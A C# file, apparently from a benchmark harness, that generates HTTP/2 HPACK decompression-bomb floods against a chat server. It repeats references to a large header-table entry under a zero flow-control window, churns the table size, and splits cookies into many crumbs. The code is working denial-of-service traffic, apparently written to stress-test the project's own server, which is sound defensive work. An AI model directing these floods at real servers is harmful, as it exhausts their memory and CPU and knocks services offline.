using ChatGo.Client.Load.Http2;

namespace ChatGo.Bench.Attacks;

/// <summary>Header blocks of few bytes that unpack to many: an entry of the connection's table is named again and again,
/// by calls that wait for a body and whose answers have no window.</summary>
internal static class HeaderFloods
{
    /// <summary>The newest entry of the table.</summary>
    private const byte Newest = 0xbe;

    /// <summary>The entry takes what the table takes at most, 4,096 bytes of which each has 32 of its own.</summary>
    private const int LargestValue = 3_900;

    /// <summary>Calls in a piece.</summary>
    private const int Together = 20;

    /// <summary>Gets them.</summary>
    public static IReadOnlyList<Flood> All { get; } =
    [
        new("HPACK, 7 × 3,900 bytes by reference", static () => Bombs("x", LargestValue, 7)),
        new("HPACK, 90 × 300 bytes by reference", static () => Bombs("x", 300, 90)),
        new("HPACK, 4,000 × 3,900 bytes by reference", static () => Bombs("x", LargestValue, 4_000)),
        new("HPACK, 700 crumbs of a cookie", static () => Bombs("cookie", 1, 700)),
        new("HPACK, 7 large crumbs of a cookie", static () => Bombs("cookie", LargestValue - 100, 7)),
        new("HPACK, table of 0 and 4,096 in turn", Resizes),
    ];

    private static IEnumerable<byte[]> Bombs(string name, int valueBytes, int references)
    {
        var call = AttackFrames.Call("Session");
        var named = Enumerable.Repeat(Newest, references).ToArray();
        yield return
        [
            .. AttackFrames.Opening((Http2Frame.InitialWindowSetting, 0)),
            .. AttackFrames.Headers(1, [.. call, .. AttackFrames.Field(name, new string('v', valueBytes), isKept: true), .. named]),
        ];
        for (var stream = 3; stream < int.MaxValue - (2 * Together);)
        {
            var piece = new SendBuffer();
            for (var frame = 0; frame < Together; frame++, stream += 2)
            {
                piece.Write(AttackFrames.Headers(stream, [.. call, .. named]));
            }

            yield return piece.Waiting.ToArray();
        }
    }

    /// <summary>The table is emptied and filled again by each call.</summary>
    private static IEnumerable<byte[]> Resizes()
    {
        yield return AttackFrames.Opening();
        for (var stream = 1; stream < int.MaxValue - (2 * Together);)
        {
            var piece = new SendBuffer();
            for (var frame = 0; frame < Together; frame++, stream += 2)
            {
                piece.Write(AttackFrames.Headers(
                    stream, [0x20, 0x3f, 0xe1, 0x1f, .. AttackFrames.Call("GetChat"), .. AttackFrames.Field("x", "y", isKept: true)], isEnd: true));
            }

            yield return piece.Waiting.ToArray();
        }
    }
}
